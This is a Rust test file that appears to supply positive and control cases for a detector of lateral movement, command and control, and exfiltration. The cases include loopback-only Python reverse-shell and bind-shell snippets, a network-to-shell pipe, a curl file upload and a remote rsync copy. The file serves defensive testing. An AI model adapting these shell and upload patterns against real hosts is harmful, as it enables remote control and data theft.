//! Lateral movement, command and control, exfiltration. All that answers listens on the loopback of the environment.

use super::{Case, case};

pub const CASES: &[Case] = &[
    case("ssh-connection", CONNECT_22, CONNECT_20022),
    case(
        "ssh-agent-used",
        r#"python3 -c 'import os,socket
os.makedirs("/tmp/ssh-act1"); s = socket.socket(socket.AF_UNIX); s.bind("/tmp/ssh-act1/agent.1"); s.listen()
socket.socket(socket.AF_UNIX).connect("/tmp/ssh-act1/agent.1")'"#,
        r#"python3 -c 'import socket
s = socket.socket(socket.AF_UNIX); s.bind("/tmp/other.sock"); s.listen()
socket.socket(socket.AF_UNIX).connect("/tmp/other.sock")'"#,
    ),
    case(
        "windows-share",
        "python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 445))'",
        "python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 20445))'",
    ),
    case("download-tool", "env curl -s -m 1 http://127.0.0.1:9/x", "env curl --version"),
    case(
        "tor-proxy",
        "python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 9050))'",
        "python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 20050))'",
    ),
    case(
        "uncommon-port",
        "python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 4444))'",
        "python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 8443))'",
    ),
    case(
        "raw-network-socket",
        "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'",
        "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM)'",
    ),
    case(
        "reverse-shell",
        r#"python3 -c 'import os,socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
c = socket.create_connection(s.getsockname())
if os.fork() == 0:
    [os.dup2(c.fileno(), n) for n in range(3)]
    os.execv("/bin/sh", ["sh", "-c", "exit 0"])
os.wait()'"#,
        r#"python3 -c 'import os,socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
c = socket.create_connection(s.getsockname())
if os.fork() == 0:
    os.execv("/bin/sh", ["sh", "-c", "exit 0"])
os.wait()
a, b = socket.socketpair()
if os.fork() == 0:
    os.dup2(c.fileno(), 0); os.execv("/bin/true", ["true"])
os.wait()'"#,
    ),
    case(
        "bind-shell",
        r#"python3 -c 'import os,socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
if os.fork() == 0:
    c = socket.create_connection(s.getsockname()); c.recv(1); os._exit(0)
c, _ = s.accept()
if os.fork() == 0:
    [os.dup2(c.fileno(), n) for n in range(3)]
    os.execv("/bin/sh", ["sh", "-c", "exit 0"])
c.close(); os.wait(); os.wait()'"#,
        r#"python3 -c 'import os,socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
if os.fork() == 0:
    c = socket.create_connection(s.getsockname()); c.recv(1); os._exit(0)
c, _ = s.accept()
if os.fork() == 0:
    os.execv("/bin/sh", ["sh", "-c", "exit 0"])
c.close(); os.wait(); os.wait()'"#,
    ),
    case(
        "network-piped-to-shell",
        r#"mkfifo /tmp/act-port; python3 -c 'import socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
open("/tmp/act-port", "w").write(str(s.getsockname()[1]))
s.accept()[0].sendall(b"exit 0\n")' &
read port < /tmp/act-port
python3 -c 'import socket,sys
print(socket.create_connection(("127.0.0.1", int(sys.argv[1]))).recv(99).decode())' $port | sh; wait"#,
        "echo exit 0 | sh; printf 'exit 0\\n' > /tmp/piped; cat /tmp/piped | sh",
    ),
    case("upload-tool", "env curl -s -m 1 -T /etc/hostname http://127.0.0.1:9/", "env curl --help"),
    case(
        "remote-copy",
        "env rsync /etc/hostname user@127.0.0.1:/tmp/x",
        "env rsync /etc/hostname /tmp/copied",
    ),
];

const CONNECT_22: &str = "python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 22))'";
const CONNECT_20022: &str = "python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 20022))'";
